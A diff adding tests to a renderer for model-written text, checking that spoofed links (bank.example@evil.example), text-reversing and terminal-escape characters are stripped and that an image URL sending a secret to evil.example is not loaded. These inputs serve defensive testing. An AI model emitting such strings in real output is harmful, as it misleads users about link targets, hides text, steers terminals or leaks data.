@@ -100,6 +100,26 @@ describe('text that a model wrote', () => {
     ]);
   });
 
+  it.each(['[bank](https://bank.example@evil.example/)', 'https://bank.example@evil.example/', '<https://ada:word@evil.example/>'])(
+    'has no link that names another place than it leads to: %s',
+    (text) => {
+      expect(render(text)).not.toContain('<a ');
+    },
+  );
+
+  it.each([
+    '# \u202etxt',
+    '**a\u202eb** `c\u001b[31md`',
+    '```\n\u2066x\u0007\n```',
+    '[x\u202ey](https://x.example "\u202ez")',
+    '![\u202ex](y)',
+    '&#x202e;x &#x9b;',
+    '| a\u202e |\n|---|\n| \u001b]0;x\u0007 |',
+  ])('neither turns its letters nor steers a terminal that it is copied to: %j', (text) => {
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
+    expect(render(text)).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+  });
+
   it('loads no picture from anywhere', () => {
     expect(render('![a cat](https://evil.example/cat.png?secret=1)')).not.toMatch(/<img|evil\.example/);
   });
